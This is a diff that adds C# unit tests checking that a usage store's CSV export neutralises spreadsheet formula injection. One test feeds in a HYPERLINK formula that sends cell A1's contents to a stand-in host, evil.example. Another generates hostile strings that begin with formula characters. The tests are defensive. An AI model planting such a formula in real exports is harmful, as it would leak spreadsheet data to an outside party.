@@ -121,6 +121,61 @@ public sealed class UsageQueryAndCsvTests : IAsyncLifetime
         Assert.StartsWith("r1,", lines[2], StringComparison.Ordinal);
     }
 
+    [Fact]
+    public async Task Csv_neutralises_fields_a_spreadsheet_would_read_as_a_formula()
+    {
+        var path = _dir.File("formula.db");
+        await using var store = new SqliteUsageStore(SqliteDatabase.Open(path), new SqliteStoreOptions { Path = path }, new FakeTimeProvider(T0));
+        store.Record(TestRecords.Make("f-1", modelAlias: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")") with { TaskScope = "+1+1", Degraded = "@SUM(A1)" });
+        store.Record(TestRecords.Make("f-2", keyId: "-2+3", modelAlias: "\tcmd", at: T0.AddMinutes(1)) with { ErrorCode = "\r=1" });
+        await store.FlushAsync(CancellationToken.None).WaitAsync(Bound);
+        using var text = new StringWriter();
+
+        await store.WriteCsvAsync(new UsageQuery(), text, CancellationToken.None);
+
+        var lines = text.ToString().Split("\r\n");
+        Assert.Equal("f-2,2025-03-04T05:07:07.890Z,\"'-2+3\",\"'\tcmd\",openai,gpt-4o-2024-08-06,chat,100,20,0,0,0.000001,200,\"'\r=1\",12,false,reported,,", lines[1]);
+        Assert.Equal("f-1,2025-03-04T05:06:07.890Z,team-a,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",openai,gpt-4o-2024-08-06,chat,100,20,0,0,0.000001,200,,12,false,reported,\"'+1+1\",\"'@SUM(A1)\"", lines[2]);
+    }
+
+    [Fact]
+    public async Task Csv_fields_read_back_as_text_for_any_hostile_string()
+    {
+        var path = _dir.File("hostile.db");
+        await using var store = new SqliteUsageStore(SqliteDatabase.Open(path), new SqliteStoreOptions { Path = path }, new FakeTimeProvider(T0));
+
+        // Generated hostile names: formula leads, separators, quotes, line breaks and non-ASCII, in every position.
+        const string Alphabet = "=+-@\t\r\n,\"'aZ9 é漢😀";
+        var random = new Random(17);
+        var names = new List<string>();
+        for (var i = 0; i < 300; i++)
+        {
+            var chars = new System.Text.StringBuilder();
+            for (var n = random.Next(1, 12); n > 0; n--)
+            {
+                var at = random.Next(Alphabet.Length);
+                chars.Append(char.IsHighSurrogate(Alphabet[at]) ? Alphabet.Substring(at, 2) : char.IsLowSurrogate(Alphabet[at]) ? "x" : Alphabet[at].ToString());
+            }
+
+            names.Add(chars.ToString());
+            store.Record(TestRecords.Make("h-" + i.ToString(System.Globalization.CultureInfo.InvariantCulture), modelAlias: names[^1], at: T0.AddSeconds(-i)));
+        }
+
+        await store.FlushAsync(CancellationToken.None).WaitAsync(Bound);
+        using var text = new StringWriter();
+        await store.WriteCsvAsync(new UsageQuery(), text, CancellationToken.None);
+
+        var rows = Rfc4180.Parse(text.ToString());
+        Assert.Equal(names.Count + 1, rows.Count);
+        for (var i = 0; i < names.Count; i++)
+        {
+            var field = rows[i + 1][3];
+            var expected = names[i][0] is '=' or '+' or '-' or '@' or '\t' or '\r' ? "'" + names[i] : names[i];
+            Assert.Equal(expected, field);
+            Assert.DoesNotContain(field[0], "=+-@\t\r");
+        }
+    }
+
     private async Task<List<string>> Ids(UsageQuery query)
     {
         var records = await _store.QueryAsync(query, CancellationToken.None);
